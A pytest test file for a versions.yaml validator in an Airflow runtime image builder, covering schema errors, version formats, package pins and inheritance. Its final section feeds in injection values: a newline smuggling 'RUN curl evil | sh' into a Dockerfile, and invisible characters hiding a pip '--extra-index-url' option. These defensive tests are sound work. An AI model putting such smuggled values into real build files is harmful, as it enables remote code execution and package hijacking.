"""versions.yaml's structure: every bad input is reported naming the entry, the field and the
allowed or offending value, and every problem of a file is reported, not just the first."""

from __future__ import annotations

import pytest

from runtime_builder.errors import MatrixError
from runtime_builder.matrix.load import load_matrix
from runtime_builder.matrix.model import Channel, Platform, Version
from runtime_builder.matrix.reader import Problem
from runtime_builder.matrix.schema import parse_document

from .support import edit, fixture_text, line, line_number, load_text, problems, release, replace

L11 = "lines[0] (Runtime 11)"
L14 = "lines[1] (Runtime 14)"


def _set(mapping_of, key, value):
    """edit(): set `key` of the mapping `mapping_of(doc)` returns."""
    return edit(lambda doc: mapping_of(doc).__setitem__(key, value))


def _delete(mapping_of, key):
    return edit(lambda doc: mapping_of(doc).pop(key))


def in_line(runtime):
    return lambda doc: line(doc, runtime)


def in_release(version):
    return lambda doc: release(doc, version)


def in_packages(runtime):
    return lambda doc: line(doc, runtime)["packages"]


def in_environment(runtime):
    return lambda doc: line(doc, runtime)["environment"]


def _append_line_14_copy(doc):
    """A second `runtime: 14` entry holding 14.0.0 again: the same version in two places."""
    twin = dict(line(doc, 14))
    twin["releases"] = [dict(release(doc, "14.0.0"))]
    doc["lines"].append(twin)


def _rename_version(old, new):
    return _set(in_release(old), "version", new)


BAD_INPUTS = [
    pytest.param(
        _set(lambda doc: doc, "extras", {"a": 1}),
        ["versions.yaml: (top level): unknown key 'extras'; allowed: airflow_majors, airflow_pythons, "
         "build_tools, image_changes, lines, policy, schema, suites"],
        id="top-level-unknown-key",
    ),
    pytest.param(
        _delete(lambda doc: doc, "suites"),
        ["versions.yaml: (top level): missing required key 'suites'"],
        id="top-level-missing-key",
    ),
    pytest.param(
        _delete(in_release("14.0.0"), "channel"),
        [f"versions.yaml: {L14} > releases[0] (14.0.0): missing required key 'channel'"],
        id="release-missing-channel",
    ),
    pytest.param(
        _delete(in_line(11), "architectures"),
        [f"versions.yaml: {L11}: missing required key 'architectures'"],
        id="line-missing-architectures",
    ),
    pytest.param(
        _set(in_line(14), "colour", "blue"),
        [f"versions.yaml: {L14}: unknown key 'colour'; allowed: airflow, architectures,"],
        id="line-unknown-key",
    ),
    pytest.param(
        _set(in_release("14.0.1"), "relased", "2026-10-01"),
        [f"versions.yaml: {L14} > releases[1] (14.0.1): unknown key 'relased'; allowed: airflow, channel,"],
        id="release-misspelled-key",
    ),
    pytest.param(
        _set(in_line(14), "pythons", "3.13"),
        [f"versions.yaml: {L14} > pythons: must be a non-empty list, got str '3.13'"],
        id="pythons-as-string",
    ),
    pytest.param(
        _set(in_line(14), "pythons", []),
        [f"versions.yaml: {L14} > pythons: must be a non-empty list, got list []"],
        id="pythons-empty",
    ),
    pytest.param(
        _set(in_line(14), "pythons", ["3.11", "3.13", "3.11"]),
        [f"versions.yaml: {L14} > pythons: '3.11' is listed twice"],
        id="python-listed-twice",
    ),
    pytest.param(
        replace('    python: "3.11"\n', "    python: 3.10\n"),
        [f"versions.yaml: {L11} > python: 3.1 must be a quoted string (YAML reads 3.10 as the number 3.1)"],
        id="unquoted-python-3.10-is-a-float",
    ),
    pytest.param(
        replace('pythons: ["3.9", "3.11"]', 'pythons: [3.9, "3.11"]'),
        [f"versions.yaml: {L11} > pythons[0]: 3.9 must be a quoted string"],
        id="unquoted-python-in-list",
    ),
    pytest.param(
        replace('  "2.10": ["3.9"', '  2.10: ["3.9"'),
        ["versions.yaml: airflow_pythons > 2.1: 2.1 must be a quoted string"],
        id="unquoted-airflow-minor-key",
    ),
    pytest.param(
        _set(in_release("14.0.0"), "version", "14.0"),
        [f"versions.yaml: {L14} > releases[0] (14.0) > version: '14.0' is not a major.minor.patch version "
         "(semantic versioning, e.g. 14.0.2)"],
        id="semver-two-parts",
    ),
    pytest.param(
        _set(in_release("14.0.0"), "version", "v14.0.0"),
        [f"versions.yaml: {L14} > releases[0] (v14.0.0) > version: 'v14.0.0' is not a major.minor.patch version"],
        id="semver-v-prefix",
    ),
    pytest.param(
        _set(in_release("14.0.0"), "version", "014.0.0"),
        [f"versions.yaml: {L14} > releases[0] (014.0.0) > version: '014.0.0' is not a major.minor.patch version"],
        id="semver-leading-zero",
    ),
    pytest.param(
        replace("      - version: 14.0.0\n", "      - version: 14.0\n"),
        [f"versions.yaml: {L14} > releases[0] > version: 14.0 must be a quoted string"],
        id="semver-unquoted-float",
    ),
    pytest.param(
        _set(in_release("14.0.1"), "airflow", "3.3"),
        [f"versions.yaml: {L14} > releases[1] (14.0.1) > airflow: '3.3' is not a major.minor.patch version"],
        id="airflow-version-not-semver",
    ),
    pytest.param(
        _set(in_line(14), "suite", "bullseye"),
        [f"versions.yaml: {L14} > suite: unknown suite 'bullseye'; allowed: bookworm, trixie"],
        id="unknown-suite",
    ),
    pytest.param(  # issue 31: an empty suite dropped the whole line, its releases gone, and validate passed
        _set(in_line(14), "suite", ""),
        [f"versions.yaml: {L14} > suite: unknown suite ''; allowed: bookworm, trixie"],
        id="empty-suite",
    ),
    pytest.param(  # issue 31: these were date()'s "year 10000 is out of range" and an OverflowError, in tracebacks
        _set(in_line(14), "end_of_maintenance", __import__("datetime").date(9999, 12, 31)),
        [f"versions.yaml: {L14} > end_of_basic_support: would fall after the year 9999 (first release 2026-09-01, "
         "policy: 24 months of maintenance, then 6 of basic support); check them"],
        id="dates-past-9999",
    ),
    pytest.param(
        _set(lambda doc: doc["policy"], "maintenance_months", 10 ** 6),
        [f"versions.yaml: {L11} > end_of_maintenance: would fall after the year 9999"],
        id="maintenance-months-past-9999",
    ),
    pytest.param(
        _set(lambda doc: doc["policy"], "basic_support_months", 10 ** 18),
        [f"versions.yaml: {L14} > end_of_basic_support: would fall after the year 9999"],
        id="basic-support-months-overflow",
    ),
    pytest.param(
        _set(in_line(14), "architectures", ["linux/amd64", "linux/s390x"]),
        [f"versions.yaml: {L14} > architectures[1]: unknown platform 'linux/s390x'; "
         "allowed: linux/amd64, linux/arm64"],
        id="unknown-architecture",
    ),
    pytest.param(
        _set(in_release("14.0.0"), "channel", "beta"),
        [f"versions.yaml: {L14} > releases[0] (14.0.0) > channel: 'beta' is not a channel; "
         "allowed: stable, deprecated, nightly"],
        id="unknown-channel",
    ),
    pytest.param(
        _set(in_packages(11), "apache_airflow_providers_celery", "3.8.3"),
        [f"versions.yaml: {L11} > packages > apache_airflow_providers_celery: pinned twice "
         "(as 'apache-airflow-providers-celery' and 'apache_airflow_providers_celery')"],
        id="package-pinned-twice-by-normalization",
    ),
    pytest.param(
        _set(in_packages(14), "Apache_Airflow", "3.3.0"),
        [f"versions.yaml: {L14} > packages > Apache_Airflow: apache-airflow is set by the 'airflow' field, "
         "not pinned as a package"],
        id="apache-airflow-pinned-as-package",
    ),
    pytest.param(
        _set(in_packages(11), "apache-airflow-providers-celery", "3.8.*"),
        [f"versions.yaml: {L11} > packages > apache-airflow-providers-celery: '3.8.*' is not an exact, "
         "normalized version (PEP 440, e.g. 3.10.2)"],
        id="package-version-wildcard",
    ),
    pytest.param(
        _set(in_packages(11), "apache-airflow-providers-celery", ">=3"),
        [f"versions.yaml: {L11} > packages > apache-airflow-providers-celery: '>=3' is not an exact"],
        id="package-version-range",
    ),
    pytest.param(
        _set(in_packages(11), "apache-airflow-providers-celery", "03.8.3"),
        [f"versions.yaml: {L11} > packages > apache-airflow-providers-celery: '03.8.3' is not an exact, "
         "normalized version"],
        id="package-version-not-normalized",
    ),
    pytest.param(
        _set(in_packages(11), "not a name!", "1.0"),
        [f"versions.yaml: {L11} > packages: 'not a name!' is not a valid package name"],
        id="package-name-invalid",
    ),
    pytest.param(
        _set(in_release("14.0.2"), "yanked", ""),
        [f"versions.yaml: {L14} > releases[2] (14.0.2) > yanked: a yanked release needs its reason "
         "(a non-empty string)"],
        id="yanked-empty-reason",
    ),
    pytest.param(
        _set(in_release("14.0.2"), "yanked", "   "),
        [f"versions.yaml: {L14} > releases[2] (14.0.2) > yanked: a yanked release needs its reason"],
        id="yanked-blank-reason",
    ),
    pytest.param(
        _set(in_release("14.0.2"), "yanked", True),
        [f"versions.yaml: {L14} > releases[2] (14.0.2) > yanked: must be a string, got bool True"],
        id="yanked-true-without-reason",
    ),
    pytest.param(
        replace('      AIRFLOW__CORE__LINE: "14"', "      AIRFLOW__CORE__LINE: 30"),
        [f"versions.yaml: {L14} > environment > AIRFLOW__CORE__LINE: must be a quoted string, got int 30"],
        id="environment-value-not-a-string",
    ),
    pytest.param(
        _set(in_environment(14), "airflow__core__lower", "x"),
        [f"versions.yaml: {L14} > environment: 'airflow__core__lower' is not a valid variable name (A-Z, 0-9, _)"],
        id="environment-name-lowercase",
    ),
    pytest.param(
        _set(in_environment(14), "1AIRFLOW", "x"),
        [f"versions.yaml: {L14} > environment: '1AIRFLOW' is not a valid variable name"],
        id="environment-name-starts-with-digit",
    ),
    pytest.param(
        _set(lambda doc: doc["airflow_majors"]["3"]["environment"], "AIRFLOW__SCHEDULER__INTERVAL", 30),
        ["versions.yaml: airflow_majors > 3 > environment > AIRFLOW__SCHEDULER__INTERVAL: "
         "must be a quoted string, got int 30"],
        id="airflow-major-environment-value-not-a-string",
    ),
    pytest.param(
        replace('  "2":\n', "  2:\n"),
        ["versions.yaml: airflow_majors > 2: 2 must be a quoted Airflow major such as '3'"],
        id="airflow-major-unquoted",
    ),
    pytest.param(
        _rename_version("14.0.1", "15.0.1"),
        [f"versions.yaml: {L14} > releases[1] (15.0.1) > version: 15.0.1 is not in Runtime line 14 "
         "(its major must be 14)"],
        id="release-major-is-not-the-line",
    ),
    pytest.param(
        _set(in_release("14.0.1"), "airflow", "3.4.0"),
        [f"versions.yaml: {L14} > releases[1] (14.0.1) > airflow: Airflow 3.4.0 is not in this line's "
         "Airflow 3.3; a new Airflow minor needs a new Runtime major"],
        id="release-airflow-minor-is-not-the-line",
    ),
    pytest.param(
        edit(_append_line_14_copy),
        ["versions.yaml: lines[2] (Runtime 14) > runtime: line 14 is already defined at lines[1]"],
        id="runtime-line-defined-twice",
    ),
    pytest.param(
        _set(lambda doc: doc, "schema", 2),
        ["versions.yaml: schema: 2 is not supported; this build.py reads schema 1"],
        id="schema-version-unsupported",
    ),
    pytest.param(
        _set(in_release("14.0.0"), "released", "2026-09-01"),
        [f"versions.yaml: {L14} > releases[0] (14.0.0) > released: must be a date written YYYY-MM-DD, "
         "got str '2026-09-01'"],
        id="released-quoted-string",
    ),
    pytest.param(
        _set(lambda doc: doc["policy"], "maintenance_months", 0),
        ["versions.yaml: policy > maintenance_months: 0 must be at least 1"],
        id="policy-months-zero",
    ),
    pytest.param(
        _set(lambda doc: doc["policy"], "maintenance_ends_at_month_end", "yes"),
        ["versions.yaml: policy > maintenance_ends_at_month_end: must be true or false, got str 'yes'"],
        id="policy-flag-not-boolean",
    ),
    pytest.param(
        _set(lambda doc: doc["build_tools"], "uv", "0.13"),
        ["versions.yaml: build_tools > uv: '0.13' is not an exact uv version"],
        id="uv-version-not-exact",
    ),
    pytest.param(
        _set(lambda doc: doc, "lines", []),
        ["versions.yaml: lines: must be a non-empty list of Runtime lines, got list []"],
        id="no-lines",
    ),
    pytest.param(
        _set(in_line(14), "releases", None),
        [f"versions.yaml: {L14} > releases: must be a non-empty list of releases, got nothing (null)"],
        id="line-without-releases",
    ),
    pytest.param(
        _set(in_line(14), "end_of_maintenance", "soon"),
        [f"versions.yaml: {L14} > end_of_maintenance: must be a date written YYYY-MM-DD, got str 'soon'"],
        id="end-of-maintenance-not-a-date",
    ),
]


@pytest.mark.parametrize(("mutation", "expected"), BAD_INPUTS)
def test_bad_input_is_reported_naming_entry_field_and_value(tmp_path, mutation, expected):
    reported = problems(tmp_path, mutation(fixture_text()))
    for text in expected:
        assert any(problem.startswith(text) for problem in reported), "\n".join(reported)


def test_the_fixture_matrix_is_valid(matrix):
    assert [str(r.version) for r in matrix.releases] == ["11.0.0", "11.1.0", "14.0.0", "14.0.1", "14.0.2", "14.1.0"]
    assert matrix.lines == (11, 14)


def test_the_doc_level_mutations_round_trip_the_fixture_unchanged(tmp_path):
    """Guards the helpers above: dumping the parsed fixture loses nothing load_matrix reads."""
    assert load_text(tmp_path, edit(lambda doc: None)(fixture_text())) == load_text(tmp_path, fixture_text())


def test_load_matrix_raises_matrix_error_carrying_problems(tmp_path):
    path = tmp_path / "versions.yaml"
    path.write_text(_set(in_line(14), "suite", "bullseye")(fixture_text()))
    with pytest.raises(MatrixError) as caught:
        load_matrix(path)
    assert caught.value.filename == "versions.yaml"
    assert all(isinstance(p, Problem) for p in caught.value.problems)
    assert "unknown suite 'bullseye'" in str(caught.value)


def test_yaml_syntax_error_names_its_line_and_column(tmp_path):
    text = replace("build_tools:\n", "build_tools:\n\tuv: 1\n")(fixture_text())
    number = line_number(text, "\tuv: 1")
    assert problems(tmp_path, text) == [
        f"versions.yaml: line {number}, column 1: YAML syntax error: found character '\\t' that cannot start any token"
    ]


def test_unclosed_flow_list_is_a_syntax_error_with_a_line_number(tmp_path):
    text = replace('pythons: ["3.11", "3.12", "3.13"]', 'pythons: ["3.11", "3.12", "3.13"')(fixture_text())
    (reported,) = problems(tmp_path, text)
    assert reported.startswith("versions.yaml: line ")
    assert "YAML syntax error:" in reported


def test_duplicate_key_is_refused_naming_both_lines(tmp_path):
    text = replace('    python: "3.13"\n', '    python: "3.13"\n    python: "3.12"\n')(fixture_text())
    first = line_number(text, '    python: "3.13"')
    second = line_number(text, 'python: "3.12"')
    assert problems(tmp_path, text) == [
        f"versions.yaml: line {second}, column 5: YAML syntax error: duplicate key 'python' (first at line {first})"
    ]


def test_duplicate_key_in_a_nested_release_is_refused(tmp_path):
    text = replace("        channel: nightly\n", "        channel: nightly\n        channel: stable\n")(fixture_text())
    (reported,) = problems(tmp_path, text)
    assert "duplicate key 'channel'" in reported


def test_a_document_that_is_not_a_mapping_is_reported(tmp_path):
    assert problems(tmp_path, "- just\n- a list\n") == [
        "versions.yaml: (top level): must be a mapping, got list ['just', 'a list']"
    ]


def test_an_unreadable_file_is_a_matrix_error(tmp_path):
    with pytest.raises(MatrixError) as caught:
        load_matrix(tmp_path / "missing.yaml")
    assert "cannot read the file" in str(caught.value)


def test_several_structural_problems_are_all_reported(tmp_path):
    def break_many(doc):
        line(doc, 11)["suite"] = "bullseye"
        line(doc, 14)["architectures"] = ["linux/s390x"]
        release(doc, "14.0.0")["channel"] = "beta"
        release(doc, "14.0.2")["yanked"] = ""
        doc["airflow_majors"]["2"]["environment"]["AIRFLOW__CORE__MODE"] = 2
        doc["build_tools"]["uv"] = "latest"

    reported = problems(tmp_path, edit(break_many)(fixture_text()))
    joined = "\n".join(reported)
    for fragment in (
        f"{L11} > suite: unknown suite 'bullseye'",
        f"{L14} > architectures[0]: unknown platform 'linux/s390x'",
        f"{L14} > releases[0] (14.0.0) > channel: 'beta' is not a channel",
        f"{L14} > releases[2] (14.0.2) > yanked: a yanked release needs its reason",
        "airflow_majors > 2 > environment > AIRFLOW__CORE__MODE: must be a quoted string, got int 2",
        "build_tools > uv: 'latest' is not an exact uv version",
    ):
        assert fragment in joined, joined
    assert len(reported) == 6, joined


def test_each_bad_release_of_a_line_is_reported(tmp_path):
    def break_two(doc):
        release(doc, "14.0.0")["channel"] = "beta"
        release(doc, "14.1.0")["channel"] = "gamma"

    joined = "\n".join(problems(tmp_path, edit(break_two)(fixture_text())))
    assert "releases[0] (14.0.0) > channel: 'beta'" in joined
    assert "releases[3] (14.1.0) > channel: 'gamma'" in joined


# --- inheritance: what a valid document resolves to ----------------------------------------


def test_release_inherits_line_values(matrix):
    release = matrix.release("14.0.0")
    assert release.python == "3.13"
    assert release.pythons == ("3.11", "3.12", "3.13")
    assert release.platforms == (Platform.AMD64,)
    assert release.suite.name == "trixie" and release.suite.debian == "13"
    assert release.airflow == Version(3, 3, 0)
    assert release.channel is Channel.STABLE
    assert release.yanked is None and not release.is_yanked


def test_release_packages_override_the_lines_and_add_to_them(matrix):
    assert matrix.release("14.0.0").packages == (("apache-airflow-providers-celery", "3.14.0"),)
    assert matrix.release("14.1.0").packages == (
        ("apache-airflow-providers-celery", "3.15.0"),
        ("apache-airflow-providers-fab", "2.0.1"),
    )


def test_package_names_are_canonicalized(tmp_path):
    def spell_oddly(doc):
        line(doc, 11)["packages"] = {"Apache_Airflow.Providers_Celery": "3.8.3"}

    matrix = load_text(tmp_path, edit(spell_oddly)(fixture_text()))
    assert matrix.release("11.0.0").packages == (("apache-airflow-providers-celery", "3.8.3"),)


def test_environment_merges_airflow_major_then_line_then_release(matrix):
    assert dict(matrix.release("11.0.0").environment) == {
        "AIRFLOW__CORE__MODE": "two", "AIRFLOW__SCHEDULER__INTERVAL": "30",
    }
    assert dict(matrix.release("14.0.0").environment) == {
        "AIRFLOW__CORE__LINE": "14", "AIRFLOW__CORE__MODE": "three", "AIRFLOW__SCHEDULER__INTERVAL": "30",
    }
    assert dict(matrix.release("14.0.1").environment)["AIRFLOW__CORE__MODE"] == "patched"
    assert dict(matrix.release("14.0.2").environment)["AIRFLOW__CORE__MODE"] == "three"


def test_yanked_reason_is_kept(matrix):
    assert matrix.release("14.0.2").yanked == "scheduler crash"


def test_releases_are_sorted_by_version_whatever_the_file_order(tmp_path):
    def reverse(doc):
        doc["lines"].reverse()
        for entry in doc["lines"]:
            entry["releases"].reverse()

    matrix = load_text(tmp_path, edit(reverse)(fixture_text()))
    assert [str(r.version) for r in matrix.releases] == ["11.0.0", "11.1.0", "14.0.0", "14.0.1", "14.0.2", "14.1.0"]


def test_short_architecture_names_are_accepted(tmp_path):
    matrix = load_text(tmp_path, _set(in_line(14), "architectures", ["amd64", "arm64"])(fixture_text()))
    assert matrix.release("14.0.0").platforms == (Platform.AMD64, Platform.ARM64)


@pytest.mark.parametrize("text", ["14.0.2", "0.0.0", "10.20.30"])
def test_version_parse_accepts_strict_semver(text):
    assert str(Version.parse(text)) == text


@pytest.mark.parametrize("text", ["14.0", "v14.0.1", "014.0.1", "14.0.1-rc1", "14.0.1 ", ""])
def test_version_parse_rejects_anything_else(text):
    with pytest.raises(ValueError, match=r"is not a major\.minor\.patch version"):
        Version.parse(text)


def test_versions_order_numerically_not_lexically():
    assert Version.parse("14.0.10") > Version.parse("14.0.9")
    assert Version.parse("9.9.9") < Version.parse("10.0.0")


def test_parse_document_returns_no_matrix_on_structural_problems():
    matrix, found = parse_document(_set(lambda doc: doc, "schema", 3)(fixture_text()))
    assert matrix is None and len(found) == 1


# --- bugs found while writing these tests -----------------------------------------------------


def test_impossible_date_is_a_reported_problem(tmp_path):
    text = replace("released: 2026-09-01", "released: 2026-02-30")(fixture_text())
    reported = problems(tmp_path, text)
    assert any("2026-02-30" in p or "day is out of range" in p for p in reported)


def test_release_date_with_a_time_is_a_reported_problem(tmp_path):
    text = replace("released: 2026-09-01", "released: 2026-09-01 10:00:00")(fixture_text())
    reported = problems(tmp_path, text)
    assert any("> released: must be a date written YYYY-MM-DD" in p for p in reported)


def test_schema_true_is_not_schema_1(tmp_path):
    reported = problems(tmp_path, _set(lambda doc: doc, "schema", True)(fixture_text()))
    assert any("schema" in p for p in reported)


def test_pinned_twice_names_both_spellings_as_written(tmp_path):
    def pin_twice(doc):
        line(doc, 11)["packages"] = {"apache_airflow_providers_celery": "3.8.3",
                                     "apache-airflow-providers-celery": "3.8.3"}

    joined = "\n".join(problems(tmp_path, edit(pin_twice)(fixture_text())))
    assert "'apache_airflow_providers_celery'" in joined
    assert "pinned twice" in joined


# --- values that would inject lines into rendered files are refused ----------------------------


@pytest.mark.parametrize(("mutation", "expected"), [
    pytest.param(edit(lambda doc: line(doc, 14).setdefault("environment", {}).__setitem__(
        "AIRFLOW__CORE__X", "1\nRUN curl evil | sh")),
        "versions.yaml: lines[1] > environment > AIRFLOW__CORE__X: '1\\nRUN curl evil | sh' contains "
        "U+000A (a control character) at position 1", id="newline-in-an-environment-value"),
    pytest.param(edit(lambda doc: doc["suites"].__setitem__("trixie\nRUN x", {"debian": "13", "python": "3.13"})),
                 "versions.yaml: suites > 'trixie\\nRUN x': 'trixie\\nRUN x' contains U+000A",
                 id="newline-in-a-suite-name"),
    pytest.param(edit(lambda doc: doc["suites"].__setitem__("Trixie Backports", {"debian": "13", "python": "3.13"})),
                 "versions.yaml: suites > 'Trixie Backports': 'Trixie Backports' is not a Debian suite name",
                 id="suite-name-not-a-name"),
    pytest.param(edit(lambda doc: release(doc, "14.0.2").__setitem__("yanked", "broken\r\nsee elsewhere")),
                 "contains U+000D (a control character) at position 6", id="carriage-return-in-a-reason"),
])
def test_control_characters_are_refused(tmp_path, mutation, expected):
    reported = problems(tmp_path, mutation(fixture_text()))
    assert any(expected in problem for problem in reported), "\n".join(reported)


INJECTION = "--extra-index-url http://127.0.0.1:9/simple"


@pytest.mark.parametrize(("character", "name"), [
    ("\u2028", "LINE SEPARATOR"), ("\u2029", "PARAGRAPH SEPARATOR"), ("\x85", "a control character"),
    ("\u200b", "ZERO WIDTH SPACE"), ("\u202e", "RIGHT-TO-LEFT OVERRIDE"), ("\xa0", "NO-BREAK SPACE"),
])
def test_invisible_characters_in_a_constraint_reason_are_refused(tmp_path, character, name):
    """A reason is rendered as a comment of constraints.txt, which pip reads with str.splitlines:
    U+2028 there made the rest of the reason a pip option of every image (issue 30)."""
    reason = f"celery 5.7 breaks the worker{character}{INJECTION}"

    def constrain(doc):
        line(doc, 14)["constraints"] = [{"requirement": "celery<5.7", "reason": reason}]

    reported = problems(tmp_path, edit(constrain)(fixture_text()))
    assert reported == [f"versions.yaml: lines[1] > constraints[0] > reason: {reason!r} contains "
                        f"U+{ord(character):04X} ({name}) at position 28; values are rendered into Dockerfiles, "
                        "scripts and constraint files, so they must be one line of printable text"]


def test_an_invisible_character_in_a_key_is_refused(tmp_path):
    def key(doc):
        line(doc, 14).setdefault("environment", {})["AIRFLOW__CORE__X\u2028"] = "1"

    reported = problems(tmp_path, edit(key)(fixture_text()))
    assert any("lines[1] > environment > 'AIRFLOW__CORE__X\\u2028': 'AIRFLOW__CORE__X\\u2028' contains U+2028" in p
               for p in reported), reported
